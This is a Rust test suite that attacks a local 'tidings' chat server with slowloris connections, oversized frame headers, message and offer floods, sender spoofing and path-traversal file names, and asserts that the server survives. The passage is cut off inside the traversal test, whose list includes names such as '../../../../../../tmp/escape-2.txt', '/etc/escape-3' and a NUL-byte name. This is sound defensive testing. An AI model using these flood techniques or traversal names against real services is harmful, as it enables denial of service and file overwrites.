//! The hostile-client suite: the real `tidings serve` process on 127.0.0.1, attacked over
//! real sockets.
//!
//! Each test starts its own server, connects two well-behaved clients (`alice` and `bob`,
//! the blocking `tidings_std::Client`, which answers heartbeats), attacks, and asserts:
//!
//! * the clear error the attacker gets (error code, HTTP status or WebSocket close code) or
//!   the event the operator sees;
//! * that the server process is still up;
//! * that alice and bob keep exchanging messages during the attack and after it;
//! * that the server's memory stays bounded: its peak resident size (`VmHWM` in
//!   `/proc/PID/status`) stays under [`RSS_LIMIT_KIB`].
//!
//! Waits are deadlines on events (a frame, an end of stream, an output line), never sleeps.

mod common;

use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::Receiver;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use bytes::BytesMut;
use common::{expect_line, spawn_with_lines, BIN};
use serde_json::Value;
use tidings_core::wire::{
    capability, FrameDecoder, Hello, MemberKind, Message, Offer, Preamble, DEFAULT_MAX_FRAME,
    PREAMBLE_LEN,
};
use tidings_core::ErrorCode;
use tidings_std::{Client, ClientConfig, ClientEvent};

/// The bound on the server's peak resident memory in every test (a debug build idles at
/// about 10 MiB).
const RSS_LIMIT_KIB: u64 = 32 << 10;

/// How long any single expected event may take.
const PATIENCE: Duration = Duration::from_secs(10);

/// `tidings --json serve` on a free port; killed on drop.
struct Serve {
    child: Child,
    lines: Receiver<Value>,
    addr: SocketAddr,
}

impl Serve {
    fn start(extra: &[&str]) -> Serve {
        let mut cmd = Command::new(BIN);
        cmd.args(["--json", "serve", "--listen", "127.0.0.1:0"])
            .args(extra);
        Serve::spawn(cmd)
    }

    /// `tidings --json serve` with at most `fds` open descriptors (`ulimit -n`; the shell
    /// execs, so the child is the server).
    fn start_with_fd_limit(fds: u32) -> Serve {
        let mut cmd = Command::new("sh");
        cmd.arg("-c")
            .arg(format!("ulimit -n {fds} && exec \"$0\" \"$@\""))
            .arg(BIN)
            .args(["--json", "serve", "--listen", "127.0.0.1:0"]);
        Serve::spawn(cmd)
    }

    /// `tidings serve` printing lines for people (each arrives as a JSON string).
    fn start_text(extra: &[&str]) -> Serve {
        let mut cmd = Command::new(BIN);
        cmd.args(["serve", "--listen", "127.0.0.1:0"]).args(extra);
        Serve::spawn(cmd)
    }

    fn spawn(mut cmd: Command) -> Serve {
        cmd.stdin(Stdio::null()).stderr(Stdio::null());
        // Lines for people (`start_text`) come as strings.
        let (child, lines) = spawn_with_lines(&mut cmd, |line| {
            Some(serde_json::from_str(&line).unwrap_or(Value::String(line)))
        });
        let mut serve = Serve {
            child,
            lines,
            addr: "0.0.0.0:0".parse().unwrap(),
        };
        let v = serve.expect(|v| {
            v["event"] == "listening" || v.as_str().is_some_and(|l| l.contains("listening on "))
        });
        let addr = match v.as_str() {
            // "[12:00:00] listening on 127.0.0.1:PORT (native, …"
            Some(line) => line
                .split("listening on ")
                .nth(1)
                .unwrap()
                .split(' ')
                .next(),
            None => v["addr"].as_str(),
        };
        serve.addr = addr.unwrap().parse().unwrap();
        serve
    }

    /// The next output event for which `pred` holds, within [`PATIENCE`].
    fn expect(&self, pred: impl FnMut(&Value) -> bool) -> Value {
        expect_line(&self.lines, PATIENCE, pred)
    }

    /// A field of `/proc/PID/status`, in KiB.
    fn status_kib(&self, field: &str) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap();
        let line = status
            .lines()
            .find(|l| l.starts_with(field))
            .unwrap_or_else(|| panic!("no {field} in /proc/PID/status"));
        line.split_whitespace().nth(1).unwrap().parse().unwrap()
    }

    /// Asserts that the process runs and its peak memory stayed under [`RSS_LIMIT_KIB`].
    fn assert_healthy(&mut self, what: &str) {
        self.assert_healthy_under(what, RSS_LIMIT_KIB);
    }

    /// Asserts that the process runs and its peak memory stayed under `limit_kib`.
    fn assert_healthy_under(&mut self, what: &str, limit_kib: u64) {
        assert!(
            self.child.try_wait().unwrap().is_none(),
            "the server died during {what}"
        );
        let peak = self.status_kib("VmHWM:");
        let now = self.status_kib("VmRSS:");
        eprintln!("{what}: server VmRSS {now} KiB, VmHWM {peak} KiB");
        assert!(
            peak < limit_kib,
            "{what}: server peak RSS {peak} KiB over {limit_kib} KiB"
        );
    }

    /// Two well-behaved clients.
    fn bystanders(&self) -> Pair {
        let alice = Client::connect(self.addr, "alice", ClientConfig::default()).unwrap();
        let bob = Client::connect(self.addr, "bob", ClientConfig::default()).unwrap();
        Pair {
            alice,
            bob,
            round: 0,
            bob_saw: Vec::new(),
        }
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// alice and bob, who check that chat still flows.
struct Pair {
    alice: Client,
    bob: Client,
    round: u64,
    /// Events of bob's that the checks skipped, for the test to look at.
    bob_saw: Vec<ClientEvent>,
}

impl Pair {
    /// alice says something to bob and bob gets it (within [`PATIENCE`]), and back.
    fn check(&mut self) {
        self.round += 1;
        let tag = format!("round {}", self.round);
        self.alice.say_to("bob", &tag).unwrap();
        let skipped = wait_text(&self.bob, "alice", &tag);
        self.bob_saw.extend(skipped);
        self.bob.say_to("alice", &tag).unwrap();
        wait_text(&self.alice, "bob", &tag);
    }

    /// The first event of bob's (seen by the checks or still to come) for which `pred`
    /// holds, within [`PATIENCE`]; the others stay in `bob_saw`.
    fn bob_event(&mut self, mut pred: impl FnMut(&ClientEvent) -> bool) -> ClientEvent {
        if let Some(i) = self.bob_saw.iter().position(&mut pred) {
            return self.bob_saw.remove(i);
        }
        let end = Instant::now() + PATIENCE;
        loop {
            let left = end.saturating_duration_since(Instant::now());
            let ev = self
                .bob
                .next_event_timeout(left)
                .expect("bob's event in time");
            if pred(&ev) {
                return ev;
            }
            self.bob_saw.push(ev);
        }
    }

    /// Checks again and again until `attack` ends (at least three times), then once more.
    fn check_during<T>(&mut self, attack: JoinHandle<T>) -> T {
        let mut n = 0;
        while n < 3 || !attack.is_finished() {
            self.check();
            n += 1;
        }
        let result = attack.join().unwrap();
        self.check();
        result
    }
}

/// Waits for `text` from `from` on `client`; returns the other events it skipped.
fn wait_text(client: &Client, from: &str, text: &str) -> Vec<ClientEvent> {
    let end = Instant::now() + PATIENCE;
    let mut skipped = Vec::new();
    loop {
        let left = end.saturating_duration_since(Instant::now());
        let ev = client
            .next_event_timeout(left)
            .unwrap_or_else(|_| panic!("{text:?} from {from} did not arrive in time"));
        match &ev {
            ClientEvent::Text {
                from: f, text: t, ..
            } if t == text => {
                assert_eq!(f, from, "the sender of {text:?}");
                return skipped;
            }
            ClientEvent::Closed { reason, .. } => panic!("a bystander was closed: {reason}"),
            _ => skipped.push(ev),
        }
    }
}

/// How a raw connection's stream ended or stalled.
#[derive(Debug, PartialEq)]
enum End {
    /// The server closed it (end of stream or reset).
    Closed,
    /// Nothing within the deadline.
    Timeout,
}

/// A raw native connection: any bytes out, frames in.
struct Raw {
    s: TcpStream,
    dec: FrameDecoder,
    head: Vec<u8>,
}

impl Raw {
    fn connect(addr: SocketAddr) -> Raw {
        let s = TcpStream::connect(addr).unwrap();
        s.set_nodelay(true).unwrap();
        Raw {
            s,
            dec: FrameDecoder::new(16 << 20),
            head: Vec::new(),
        }
    }

    /// Connects and registers as `name` (preamble, hello, welcome).
    fn join(addr: SocketAddr, name: &str) -> Raw {
        let mut raw = Raw::connect(addr);
        raw.send_bytes(&Preamble::CURRENT.to_bytes());
        raw.send(&hello(name));
        match raw.next(PATIENCE) {
            Ok(Message::Welcome(_)) => raw,
            other => panic!("{name} was not welcomed: {other:?}"),
        }
    }

    fn send_bytes(&mut self, bytes: &[u8]) {
        self.s.write_all(bytes).unwrap();
    }

    fn send(&mut self, msg: &Message) {
        self.send_bytes(&encode(msg));
    }

    /// The next message within `within`.
    fn next(&mut self, within: Duration) -> Result<Message, End> {
        let end = Instant::now() + within;
        let mut buf = [0u8; 64 << 10];
        loop {
            if self.head.len() >= PREAMBLE_LEN {
                if let Some(frame) = self
                    .dec
                    .next_frame()
                    .expect("the server sends valid frames")
                {
                    return Ok(Message::decode(frame).expect("the server sends valid messages"));
                }
            }
            let left = end.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Err(End::Timeout);
            }
            self.s.set_read_timeout(Some(left)).unwrap();
            match self.s.read(&mut buf) {
                Ok(0) => return Err(End::Closed),
                Ok(n) => {
                    let mut bytes = &buf[..n];
                    if self.head.len() < PREAMBLE_LEN {
                        let take = (PREAMBLE_LEN - self.head.len()).min(n);
                        self.head.extend_from_slice(&bytes[..take]);
                        bytes = &bytes[take..];
                        if self.head.len() == PREAMBLE_LEN {
                            assert_eq!(self.head, Preamble::CURRENT.to_bytes());
                        }
                    }
                    self.dec.push(bytes);
                }
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    return Err(End::Timeout)
                }
                Err(_) => return Err(End::Closed),
            }
        }
    }

    /// Every message until the server closes, which must happen within `within`.
    fn until_closed(&mut self, within: Duration) -> Vec<Message> {
        let end = Instant::now() + within;
        let mut got = Vec::new();
        loop {
            match self.next(end.saturating_duration_since(Instant::now())) {
                Ok(m) => got.push(m),
                Err(End::Closed) => return got,
                Err(End::Timeout) => panic!("not closed within {within:?}; got {got:?}"),
            }
        }
    }

    /// The code of the first `error` or `goodbye` among `msgs`.
    fn close_code(msgs: &[Message]) -> Option<ErrorCode> {
        msgs.iter().find_map(|m| match m {
            Message::Error { code, .. } | Message::Goodbye { code, .. } => Some(*code),
            _ => None,
        })
    }
}

/// Server flags for the message-rate tests: 50 messages a second, bursts of 50, cut off
/// after a second over the rate.
const SLOW_RATE: [&str; 6] = [
    "--message-rate",
    "50",
    "--message-burst",
    "50",
    "--rate-limit-grace-ms",
    "1000",
];

/// Writes `msg` over and over until the server stops reading and cuts `mallory` off (or a
/// million went out).
fn flood(mallory: &mut Raw, msg: &Message) {
    mallory
        .s
        .set_write_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let batch = encode(msg).repeat(1000);
    for _ in 0..1000 {
        if mallory.s.write_all(&batch).is_err() {
            break;
        }
    }
}

fn encode(msg: &Message) -> Vec<u8> {
    let mut out = BytesMut::new();
    msg.encode(&mut out);
    out.to_vec()
}

fn hello(name: &str) -> Message {
    Message::Hello(Hello {
        name: name.into(),
        capabilities: 0,
        max_frame: DEFAULT_MAX_FRAME,
    })
}

fn text_to(peer: &str, text: &str) -> Message {
    Message::Text {
        peer: peer.into(),
        private: false,
        text: text.into(),
    }
}

/// A minimal WebSocket client: the upgrade, masked frames out, frames in.
struct Ws {
    s: TcpStream,
    buf: Vec<u8>,
}

/// One WebSocket frame from the server.
#[derive(Debug)]
struct WsFrame {
    opcode: u8,
    payload: Vec<u8>,
}

impl Ws {
    /// Sends the upgrade request (`protocol`: the subprotocol offered; `query`: after `/ws`)
    /// and returns the connection with the status line of the answer.
    fn upgrade(addr: SocketAddr, protocol: Option<&str>, query: &str) -> (Ws, String) {
        let mut s = TcpStream::connect(addr).unwrap();
        let proto = protocol
            .map(|p| format!("Sec-WebSocket-Protocol: {p}\r\n"))
            .unwrap_or_default();
        write!(
            s,
            "GET /ws{query} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
             Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\
             {proto}\r\n"
        )
        .unwrap();
        let mut ws = Ws { s, buf: Vec::new() };
        let head = ws.read_head();
        (ws, head.lines().next().unwrap_or("").to_string())
    }

    /// Reads an HTTP response head (and leaves what follows buffered).
    fn read_head(&mut self) -> String {
        let end = Instant::now() + PATIENCE;
        loop {
            if let Some(i) = self.buf.windows(4).position(|w| w == b"\r\n\r\n") {
                let head = String::from_utf8_lossy(&self.buf[..i]).into_owned();
                self.buf.drain(..i + 4);
                return head;
            }
            if !self.fill(end) {
                return String::from_utf8_lossy(&self.buf).into_owned();
            }
        }
    }

    /// Reads more bytes; false at the end of the stream. Panics past `end`.
    fn fill(&mut self, end: Instant) -> bool {
        let left = end.saturating_duration_since(Instant::now());
        assert!(!left.is_zero(), "the server did not answer in time");
        self.s.set_read_timeout(Some(left)).unwrap();
        let mut chunk = [0u8; 16 << 10];
        match self.s.read(&mut chunk) {
            Ok(0) => false,
            Ok(n) => {
                self.buf.extend_from_slice(&chunk[..n]);
                true
            }
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                panic!("the server did not answer in time")
            }
            Err(_) => false,
        }
    }

    /// Sends one masked text message (the zero mask: valid, and the bytes stay readable).
    fn send_text(&mut self, text: &str) {
        let mut frame = vec![0x81];
        let n = text.len();
        if n < 126 {
            frame.push(0x80 | n as u8);
        } else {
            frame.push(0x80 | 126);
            frame.extend_from_slice(&(n as u16).to_be_bytes());
        }
        frame.extend_from_slice(&[0, 0, 0, 0]);
        frame.extend_from_slice(text.as_bytes());
        self.s.write_all(&frame).unwrap();
    }

    /// The next frame from the server, or `None` at the end of the stream.
    fn next(&mut self) -> Option<WsFrame> {
        let end = Instant::now() + PATIENCE;
        loop {
            if self.buf.len() >= 2 {
                let len7 = (self.buf[1] & 0x7f) as usize;
                let (len, at) = match len7 {
                    126 if self.buf.len() >= 4 => {
                        (u16::from_be_bytes([self.buf[2], self.buf[3]]) as usize, 4)
                    }
                    127 if self.buf.len() >= 10 => (
                        u64::from_be_bytes(self.buf[2..10].try_into().unwrap()) as usize,
                        10,
                    ),
                    126 | 127 => (usize::MAX, 0),
                    n => (n, 2),
                };
                if len != usize::MAX && self.buf.len() >= at + len {
                    let opcode = self.buf[0] & 0x0f;
                    let payload = self.buf[at..at + len].to_vec();
                    self.buf.drain(..at + len);
                    return Some(WsFrame { opcode, payload });
                }
            }
            if !self.fill(end) {
                return None;
            }
        }
    }

    /// Frames until a close frame; returns the close code and reason, after the texts
    /// that came before it.
    fn until_close(&mut self) -> (u16, String) {
        let mut texts = Vec::new();
        while let Some(f) = self.next() {
            if f.opcode == 8 {
                let code = u16::from_be_bytes([f.payload[0], f.payload[1]]);
                let reason = String::from_utf8_lossy(&f.payload[2..]).into_owned();
                return (code, format!("{reason} after {texts:?}"));
            }
            if f.opcode == 1 {
                texts.push(String::from_utf8_lossy(&f.payload).into_owned());
            }
        }
        panic!("the WebSocket ended without a close frame, after {texts:?}");
    }

    /// The next text message containing `needle`.
    fn text_with(&mut self, needle: &str) -> String {
        while let Some(f) = self.next() {
            let text = String::from_utf8_lossy(&f.payload).into_owned();
            if f.opcode == 1 && text.contains(needle) {
                return text;
            }
        }
        panic!("the WebSocket ended before a text with {needle:?}");
    }
}

/// The SHA-256 of nothing.
const EMPTY_SHA256: [u8; 32] = [
    0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4, 0xc8, 0x99, 0x6f, 0xb9, 0x24,
    0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b, 0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52, 0xb8, 0x55,
];

/// Short timeouts so that slow attackers are cut off quickly.
const QUICK: &[&str] = &[
    "--handshake-timeout-ms",
    "1000",
    "--heartbeat-ms",
    "500",
    "--timeout-ms",
    "1500",
];

#[test]
fn slowloris_in_every_phase_is_cut_off_by_its_deadline() {
    let mut server = Serve::start(QUICK);
    let mut pair = server.bystanders();
    let addr = server.addr;
    let started = Instant::now();

    // At the door: connected, silent.
    let mut silent = Raw::connect(addr);
    // Inside the preamble.
    let mut part_preamble = Raw::connect(addr);
    part_preamble.send_bytes(&Preamble::CURRENT.to_bytes()[..3]);
    // Preamble, no hello.
    let mut no_hello = Raw::connect(addr);
    no_hello.send_bytes(&Preamble::CURRENT.to_bytes());
    // Half a hello.
    let mut half_hello = Raw::connect(addr);
    half_hello.send_bytes(&Preamble::CURRENT.to_bytes());
    let h = encode(&hello("slow"));
    half_hello.send_bytes(&h[..h.len() / 2]);
    // An HTTP request head that never ends.
    let mut http = Raw::connect(addr);
    http.send_bytes(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ");
    // A WebSocket upgrade request that never ends.
    let mut ws_head = Raw::connect(addr);
    ws_head.send_bytes(b"GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n");
    // A WebSocket upgraded (tidings.v1) that never says hello.
    let (mut ws, status) = Ws::upgrade(addr, Some("tidings.v1"), "");
    assert!(status.contains(" 101 "), "{status}");
    // Registered, then a frame that stops in the middle.
    let mut mid_frame = Raw::join(addr, "midframe");
    let t = encode(&text_to("", "never finished"));
    mid_frame.send_bytes(&t[..t.len() - 3]);

    // Meanwhile chat flows.
    pair.check();

    // Door and HTTP head: dropped without an answer.
    assert_eq!(silent.until_closed(PATIENCE), vec![]);
    assert_eq!(http.until_closed(PATIENCE), vec![]);
    assert_eq!(ws_head.until_closed(PATIENCE), vec![]);
    // Native before hello: the handshake timeout (spec §6.6.4).
    for (what, raw) in [
        ("inside the preamble", &mut part_preamble),
        ("before hello", &mut no_hello),
        ("inside hello", &mut half_hello),
    ] {
        let msgs = raw.until_closed(PATIENCE);
        assert_eq!(
            Raw::close_code(&msgs),
            Some(ErrorCode::HeartbeatTimeout),
            "{what}: {msgs:?}"
        );
    }
    // The WebSocket's session times out the same way, before the client chose its mode
    // by a first message: the hub's fatal error still gives the close 1008 (spec §12.3).
    let (code, reason) = ws.until_close();
    assert_eq!(code, 1008, "{reason}");
    assert!(!reason.is_empty());
    // Registered, mid-frame: nothing more arrives, so the heartbeat timeout ends it.
    let msgs = mid_frame.until_closed(PATIENCE);
    assert_eq!(
        Raw::close_code(&msgs),
        Some(ErrorCode::HeartbeatTimeout),
        "{msgs:?}"
    );
    server.expect(|v| {
        v["event"] == "left"
            && v["name"] == "midframe"
            && v["reason"].as_str().unwrap().contains("heartbeat-timeout")
    });
    // All of them were cut off by their deadlines, not by the test's patience.
    assert!(started.elapsed() < Duration::from_secs(8));
    pair.check();
    server.assert_healthy("slowloris");
}

#[test]
fn a_frame_length_of_2_pow_32_minus_1_is_refused_on_its_four_bytes() {
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    let huge = [0xff, 0xff, 0xff, 0xff, 0x10];
    // Before hello.
    let mut early = Raw::connect(server.addr);
    early.send_bytes(&Preamble::CURRENT.to_bytes());
    early.send_bytes(&huge);
    let msgs = early.until_closed(PATIENCE);
    assert_eq!(
        Raw::close_code(&msgs),
        Some(ErrorCode::FrameTooLarge),
        "{msgs:?}"
    );
    // After hello, followed by a megabyte of the promised body.
    let mut late = Raw::join(server.addr, "mallory");
    late.send_bytes(&huge);
    let _ = late.s.write_all(&vec![b'x'; 1 << 20]);
    let msgs = late.until_closed(PATIENCE);
    assert_eq!(
        Raw::close_code(&msgs),
        Some(ErrorCode::FrameTooLarge),
        "{msgs:?}"
    );
    // The WebSocket door: a frame announcing 2^63-1 bytes (the most RFC 6455 allows) is
    // refused on its header with 1009, before and after hello.
    for hello_first in [false, true] {
        let (mut ws, status) = Ws::upgrade(server.addr, Some("tidings.v1"), "");
        assert!(status.contains(" 101 "), "{status}");
        if hello_first {
            ws.send_text(r#"{"type":"hello","name":"wsbig","capabilities":0,"max_frame":1048576}"#);
            ws.text_with(r#""type":"welcome""#);
        }
        let mut frame = vec![0x82, 0x80 | 127];
        frame.extend_from_slice(&(u64::MAX >> 1).to_be_bytes());
        frame.extend_from_slice(&[0, 0, 0, 0]);
        ws.s.write_all(&frame).unwrap();
        let (code, reason) = ws.until_close();
        assert_eq!(code, 1009, "{reason}");
    }
    pair.check();
    server.assert_healthy("2^32-1");
}

#[test]
fn a_million_tiny_frames_do_not_disturb_anyone() {
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    let addr = server.addr;
    let attack = std::thread::spawn(move || {
        let mut mallory = Raw::join(addr, "mallory");
        // Empty frames of the extension range: ignored by the receiver, five bytes each.
        let batch: Vec<u8> = [0u8, 0, 0, 0, 0x80].repeat(50_000);
        let started = Instant::now();
        for _ in 0..20 {
            if mallory.s.write_all(&batch).is_err() {
                break;
            }
        }
        let _ = mallory
            .s
            .write_all(&encode(&text_to("bob", "after a million")));
        (mallory, started.elapsed())
    });
    let (mut mallory, took) = pair.check_during(attack);
    eprintln!("a million frames written in {took:?}");
    // Either every frame was read (and the text after them arrives from mallory), or the
    // rate limit cut mallory off with its code.
    let heard = pair.bob_event(|e| {
        matches!(e, ClientEvent::Text { text, .. } if text == "after a million")
            || matches!(e, ClientEvent::Left(name) if name == "mallory")
    });
    match heard {
        ClientEvent::Text { from, .. } => assert_eq!(from, "mallory"),
        _ => {
            let msgs = mallory.until_closed(PATIENCE);
            assert_eq!(Raw::close_code(&msgs), Some(ErrorCode::RateLimited));
        }
    }
    pair.check();
    server.assert_healthy("a million tiny frames");
}

#[test]
fn a_list_request_loop_without_reading_is_cut_off() {
    // Without a message rate, so that the output bound is what stops it.
    let mut server = Serve::start(&["--message-rate", "0"]);
    let mut pair = server.bystanders();
    let addr = server.addr;
    // Forty more names, 32 characters each, make every peer list about 1.4 KB.
    let fillers: Vec<Raw> = (0..40)
        .map(|i| Raw::join(addr, &format!("{i:0>2}-filler-with-a-long-name-here")))
        .collect();
    let attack = std::thread::spawn(move || {
        let mut mallory = Raw::join(addr, "mallory");
        mallory
            .s
            .set_write_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let batch = encode(&Message::ListRequest).repeat(10_000);
        let mut sent = 0;
        // Until the server stops reading and closes (or a million requests went out).
        while sent < 1_000_000 && mallory.s.write_all(&batch).is_ok() {
            sent += 10_000;
        }
        sent
    });
    let sent = pair.check_during(attack);
    eprintln!("list requests written before the server cut off: {sent}");
    let left = server.expect(|v| v["event"] == "left" && v["name"] == "mallory");
    let reason = left["reason"].as_str().unwrap();
    assert!(reason.contains("slow-consumer"), "{reason}");
    drop(fillers);
    pair.check();
    server.assert_healthy("list request loop");
}

#[test]
fn a_client_over_the_message_rate_is_slowed_then_disconnected() {
    let mut server = Serve::start(&SLOW_RATE);
    let mut pair = server.bystanders();
    let addr = server.addr;
    let started = Instant::now();
    let attack = std::thread::spawn(move || {
        let mut mallory = Raw::join(addr, "mallory");
        flood(&mut mallory, &text_to("bob", "spam"));
        mallory
    });
    let mut mallory = pair.check_during(attack);
    let left = server.expect(|v| v["event"] == "left" && v["name"] == "mallory");
    let took = started.elapsed();
    assert!(
        left["reason"].as_str().unwrap().contains("rate-limited"),
        "{left}"
    );
    let msgs = mallory.until_closed(PATIENCE);
    assert_eq!(
        Raw::close_code(&msgs),
        Some(ErrorCode::RateLimited),
        "{msgs:?}"
    );
    // bob got no more of the spam than the bucket allowed: the burst plus the rate.
    pair.bob_event(|e| matches!(e, ClientEvent::Left(n) if n == "mallory"));
    let spam = pair
        .bob_saw
        .iter()
        .filter(|e| matches!(e, ClientEvent::Text { text, .. } if text == "spam"))
        .count() as f64;
    // (Two more for the rounding of a refill at the edges.)
    let allowed = 52.0 + 50.0 * took.as_secs_f64();
    eprintln!("bob got {spam} spam texts in {took:?} (allowed {allowed:.0})");
    assert!(spam <= allowed, "{spam} > {allowed}");
    pair.check();
    server.assert_healthy("message rate");
}

#[test]
fn relays_into_receivers_that_stop_reading_stay_within_the_relay_budget() {
    // Four relays of 8 MiB windows into receivers that do not read: with the default budget
    // all four fill their windows (33 MiB relayed, server peak 68 MB measured); a budget of
    // one window lets one relay move at a time.
    let mut server = Serve::start(&["--relay-budget-mib", "8", "--stall-timeout-ms", "3000"]);
    let mut pair = server.bystanders();
    let src = tempfile::tempdir().unwrap();
    let mut receivers = Vec::new();
    let mut senders = Vec::new();
    for i in 0..4 {
        receivers.push(Raw::join(server.addr, &format!("deaf{i}")));
        let sender =
            Client::connect(server.addr, &format!("s{i}"), ClientConfig::default()).unwrap();
        // Sparse: 64 MiB that cost no disk.
        let path = src.path().join(format!("f{i}.bin"));
        std::fs::File::create(&path)
            .unwrap()
            .set_len(64 << 20)
            .unwrap();
        sender.send_file(&format!("deaf{i}"), &path).unwrap();
        senders.push(sender);
    }
    // Each receiver accepts with a full window, then never reads again.
    for r in &mut receivers {
        loop {
            if let Message::Offer(offer) = r.next(PATIENCE).unwrap() {
                r.send(&Message::Accept {
                    id: offer.id,
                    offset: 0,
                    credit: 8 << 20,
                });
                break;
            }
        }
    }
    // The relays move what the budget lets through, and then stall; the stall timeout
    // ends every relay on both hops with `transfer-timeout`.
    for sender in &senders {
        let end = Instant::now() + PATIENCE;
        loop {
            let left = end.saturating_duration_since(Instant::now());
            match sender
                .next_event_timeout(left)
                .expect("the relay ends in time")
            {
                ClientEvent::TransferFailed { code, .. } => {
                    assert_eq!(code, ErrorCode::TransferTimeout);
                    break;
                }
                ClientEvent::Closed { reason, .. } => panic!("sender closed: {reason}"),
                _ => {}
            }
        }
        pair.check();
    }
    // What reached each receiver: now read, up to the end of its transfer.
    let mut moved = [0usize; 4];
    for (i, r) in receivers.iter_mut().enumerate() {
        loop {
            match r.next(PATIENCE).unwrap() {
                Message::Chunk { data, .. } => moved[i] += data.len(),
                Message::Cancel { code, .. } | Message::Failed { code, .. } => {
                    assert_eq!(code, ErrorCode::TransferTimeout);
                    break;
                }
                _ => {}
            }
        }
    }
    let total: usize = moved.iter().sum();
    eprintln!(
        "relayed before the stall: {moved:?} bytes ({} MiB in all)",
        total >> 20
    );
    // (How much got through depends on the kernel's socket buffers, which the budget does
    // not count: a relay whose data drained into them frees budget for the next. What the
    // budget bounds is the server's own memory, checked below.)
    assert!(total > 0, "{moved:?}");
    pair.check();
    // Peaks measured: 18-21 MB alone, up to 34 MB with four copies of this suite at once
    // (relayed bytes cost more than their count in the heap); without the budget 68 MB.
    server.assert_healthy_under("relay budget", 48 << 10);
}

#[test]
fn a_flood_of_offers_is_rejected_beyond_the_transfer_limit() {
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    let addr = server.addr;
    let attack = std::thread::spawn(move || {
        let mut mallory = Raw::join(addr, "mallory");
        let mut out = Vec::new();
        for i in 0..2_000u64 {
            out.extend(encode(&Message::Offer(Offer {
                id: i * 2,
                peer: "bob".into(),
                size: 1 << 40,
                name: format!("flood-{i}.bin").as_str().into(),
                media_type: "".into(),
            })));
        }
        mallory.send_bytes(&out);
        // Offers beyond the concurrent-transfer limit come back rejected (or the rate
        // limit ends the flood).
        let mut rejected = 0;
        loop {
            match mallory.next(PATIENCE) {
                Ok(Message::Reject { code, .. }) => {
                    assert_eq!(code, ErrorCode::LimitExceeded);
                    rejected += 1;
                    if rejected == 2_000 - 32 {
                        return (rejected, None);
                    }
                }
                Ok(Message::Error { code, .. }) | Ok(Message::Goodbye { code, .. }) => {
                    return (rejected, Some(code))
                }
                Ok(_) => {}
                Err(e) => panic!("after {rejected} rejects: {e:?}"),
            }
        }
    });
    let (rejected, closed) = pair.check_during(attack);
    eprintln!("offers rejected: {rejected}, closed with {closed:?}");
    match closed {
        None => assert_eq!(rejected, 2_000 - 32),
        Some(code) => assert_eq!(code, ErrorCode::RateLimited),
    }
    pair.check();
    server.assert_healthy("offer flood");
}

#[test]
fn spoofed_senders_are_ignored_the_receiver_sees_the_true_one() {
    let mut server = Serve::start(&[]);
    let mut pair = server.bystanders();
    // Native: `peer` from a client is only ever the addressee; the server stamps the sender.
    let mut mallory = Raw::join(server.addr, "mallory");
    mallory.send(&text_to("bob", "I am alice"));
    wait_text(&pair.bob, "mallory", "I am alice");
    // Nobody can take the server's own name, nor alice's in another case.
    for name in ["server", "ALICE"] {
        let mut imp = Raw::connect(server.addr);
        imp.send_bytes(&Preamble::CURRENT.to_bytes());
        imp.send(&hello(name));
        let msgs = imp.until_closed(PATIENCE);
        assert!(
            matches!(
                msgs.first(),
                Some(Message::Refused {
                    code: ErrorCode::NameTaken,
                    ..
                })
            ),
            "{name}: {msgs:?}"
        );
    }
    // JSON mode: a `from` member is not part of `text`: refused as malformed.
    let (mut ws, status) = Ws::upgrade(server.addr, Some("tidings.v1"), "");
    assert!(status.contains(" 101 "), "{status}");
    ws.send_text(r#"{"type":"hello","name":"jmallory","capabilities":0,"max_frame":1048576}"#);
    ws.text_with(r#""type":"welcome""#);
    ws.send_text(r#"{"type":"text","peer":"bob","private":true,"text":"hi","from":"alice"}"#);
    let (code, reason) = ws.until_close();
    assert_eq!(code, 1008, "{reason}");
    assert!(reason.contains("malformed"), "{reason}");
    // Legacy mode: extra sender fields are ignored, bob sees the true sender.
    let (mut legacy, status) = Ws::upgrade(server.addr, None, "?name=lmallory");
    assert!(status.contains(" 101 "), "{status}");
    // The first text after the upgrade is the server's greeting or the presence list; the
    // legacy client is registered once bob sees it join.
    let end = Instant::now() + PATIENCE;
    loop {
        let left = end.saturating_duration_since(Instant::now());
        if let ClientEvent::Joined(n) = pair.bob.next_event_timeout(left).unwrap() {
            if n == "lmallory" {
                break;
            }
        }
    }
    legacy.send_text(r#"{"dst":"bob","msg":"legacy says hi","src":"alice","from":"alice"}"#);
    wait_text(&pair.bob, "lmallory", "legacy says hi");
    pair.check();
    server.assert_healthy("spoofed senders");
}

#[test]
fn path_traversal_names_stay_inside_the_inbox() {
    let root = tempfile::tempdir().unwrap();
    let inbox = root.path().join("inbox");
    let mut server = Serve::start(&["--inbox", inbox.to_str().unwrap()]);
    let mut pair = server.bystanders();
    let mut mallory = Raw::join(server.addr, "mallory");
    let hostile = [
        "../escape-1.txt",
        "../../../../../../tmp/escape-2.txt",
        "/etc/escape-3",
        "..",
        "a/../../escape-4",
        "..\\..\\escape-5.txt",
        "CON",
        ".bashrc",
        "evil\u{202e}txt.exe",
        "nul\0byte",
    ];
    // Every offer is of an empty file.
    let empty = EMPTY_SHA256;
